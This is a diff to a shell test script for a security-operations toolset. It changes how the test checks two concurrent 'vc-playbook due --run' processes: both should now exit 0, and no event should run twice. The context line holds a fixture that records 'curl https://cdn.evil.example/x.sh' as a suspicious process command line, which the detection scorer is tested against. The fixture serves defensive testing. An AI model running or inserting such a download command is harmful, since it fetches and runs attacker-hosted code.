@@ -204,20 +204,16 @@ printf '{"Name":"curl","CommandLine":"curl https://cdn.evil.example/x.sh"}\n' > 
 mkdir -p "$T/norules"
 both "a critical score (an IOC hit)" "[.classification, .score]" sh -c 'vc-score analyze artifact \
     "$(vc-case artifact import "$0" --name Windows.System.Pslist | jq -r .id)" --rules "$1"' "$T/curl.jsonl" "$T/norules"
-vc-playbook due --run > "$T/d1" 2>&1 &
-p1=$!
-vc-playbook due --run > "$T/d2" 2>&1 &
-p2=$!
-wait $p1 $p2
-# One of the two may give way to the other (serialization failure: exit 75,
-# "store busy, try again", as a cron job's next run would): never anything else.
-unlike "$(cat "$T/d1" "$T/d2" | grep -v '^{' | grep -v 'store busy, try again')" '.' \
-    "two due --run at once: nothing but a 'try again' from the one that gave way"
+at_once "$T/d1" "$T/d2" vc-playbook due --run
+# The one that finds the tenant's lock held says so and ends well; the
+# other runs the playbook (tests/cli/95-pg-sched.t does so many times).
+is "$r1:$r2" "0:0" "two due --run at once: both exit 0"
+unlike "$(cat "$T/d1" "$T/d2" | grep -v '^{')" '.' "... saying nothing but JSON lines"
 env VC_DB="$LITE" vc-playbook due --run > "$T/dl"
-is "$(cat "$T/d1" "$T/d2" | grep '^{' | jq -r '"\(.playbook) \(.trigger) \(.status)"' | sort)" \
+is "$(cat "$T/d1" "$T/d2" | grep '^{' | jq -r 'select(.busy == null) | "\(.playbook) \(.trigger) \(.status)"' | sort)" \
     "$(jq -r '"\(.playbook) \(.trigger) \(.status)"' "$T/dl" | sort)" \
     "two due --run at once: the playbook ran once an event, as one due --run on SQLite"
-is "$(cat "$T/d1" "$T/d2" | grep "^{" | jq -r .key | sort | uniq -d)" "" "... no event twice"
+is "$(cat "$T/d1" "$T/d2" | grep "^{" | jq -r '.key // empty' | sort | uniq -d)" "" "... no event twice"
 both "its execution" "[.playbook, .status, .trigger]" vc-playbook executions 'ioc hit'
 both "due --run again: nothing" "." sh -c 'vc-playbook due --run | wc -l'
 each vc-playbook add "$TOP/examples/playbooks/nightly-digest.json" || ok 1 "vc-playbook add (a schedule)"
